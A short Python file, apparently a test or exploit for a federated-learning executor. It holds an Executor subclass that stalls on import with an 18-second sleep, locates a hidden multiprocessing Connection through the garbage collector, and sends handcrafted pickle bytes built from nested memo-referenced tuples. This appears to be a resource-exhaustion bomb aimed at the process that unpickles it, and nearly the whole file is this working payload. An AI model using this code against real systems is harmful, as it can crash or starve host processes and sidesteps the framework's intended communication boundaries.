# A slow import, so that limits grow, then the same.

# %% [execute]
import sys
import time


class TalkingExecutor(Executor):
    time.sleep(18)

    def execute(self, task_name, shareable, fl_ctx, abort_signal):
        conn = next(
            o
            for o in sys.modules["gc"].get_objects()
            if type(o).__name__ == "Connection" and "multiprocessing" in type(o).__module__
        )
        conn.send_bytes(
            b"\x80\x02}"
            + b")q\x00"
            + b"".join(
                b"0" + b"h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"\x86" + b"q" + bytes([i]) for i in range(1, 60)
            )
            + b"Ns."
        )
        return make_reply(ReturnCode.OK)
